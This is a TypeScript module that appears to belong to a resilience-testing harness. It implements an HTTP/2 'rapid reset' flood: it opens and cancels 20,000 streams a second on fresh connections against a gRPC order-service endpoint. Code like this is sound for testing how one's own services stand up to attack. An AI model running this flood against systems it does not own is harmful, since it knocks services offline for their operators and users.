import { clientHello, openAndReset } from '../../support/http2-frames.ts';
import { atRate } from '../at-rate.ts';
import type { Attack } from '../attack.ts';
import { hostileGrpcSocket, writeTo } from '../hostile-connections.ts';

const CONNECTIONS_A_SECOND = 20;
const STREAMS_EACH = 1_000;
const GET_ORDER = '/orders.v1.OrderService/GetOrder';

export const rapidReset: Attack = {
  name: 'rapid-reset',
  does: `opens and resets ${CONNECTIONS_A_SECOND * STREAMS_EACH} HTTP/2 streams a second, on new connections`,
  async run(scene) {
    const bytes = Buffer.concat([clientHello(), openAndReset(STREAMS_EACH, GET_ORDER)]);
    await atRate(scene, { perSecond: CONNECTIONS_A_SECOND, maxInFlight: 40 }, async () => {
      const socket = hostileGrpcSocket(scene, 0);
      socket.resume();
      // The connection itself counts as one.
      scene.tally.sent(STREAMS_EACH - 1);
      writeTo(socket, bytes);
      await new Promise<void>((resolve) => {
        socket.setTimeout(1_000, () => socket.destroy());
        socket.on('close', () => resolve());
        scene.signal.addEventListener('abort', () => socket.destroy(), { once: true });
      });
    });
  },
};
